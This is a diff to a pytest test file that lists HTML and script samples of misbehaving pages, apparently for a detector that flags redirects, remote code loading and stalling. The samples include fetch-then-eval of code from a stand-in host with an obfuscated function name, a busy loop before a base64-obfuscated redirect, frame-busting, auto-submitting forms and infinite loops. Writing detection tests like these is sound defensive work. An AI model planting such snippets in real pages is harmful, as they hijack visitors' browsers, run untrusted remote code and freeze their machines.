@@ -116,6 +116,7 @@ def test_programs_of_old_browsers(page):
     ("<p>Wait</p><script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
      "is filled by another page"),
     ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(r=>r.text()).then(eval)</script>", "gets its code from elsewhere"),
+    ("<p>Wait</p><script>for(i=0;i<1e10;i++);location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')</script>", "is busy for longer than any page of its size"),
     ("<p>Wait</p><script>crypto.subtle.decrypt({},k,new Uint8Array(99))</script>", "deciphers what it holds"),
 ])
 def test_played_pages_that_lead_away(source, way):
@@ -125,6 +126,7 @@ def test_played_pages_that_lead_away(source, way):
 @pytest.mark.parametrize("source", [
     WORDS + "<script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
     "<script src='https://h.example/l.js'></script><script>L.map('m').open('https://h.example/{z}');draw([" + "1.5, " * 100 + "2])</script>",
+    WORDS + "<script>for(;;);</script>", "<canvas id=c></canvas><script>(function f(){requestAnimationFrame(f)})()</script>",
     WORDS + "<script>if(parent.frames.length==0)top.location.href='https://a.example/'</script>",
     WORDS + "<form id=f action=https://a.example/></form><script>f.submit()</script>",
     "<script>if(/Android/.test(navigator.userAgent))location.href='https://m.example/'</script>",
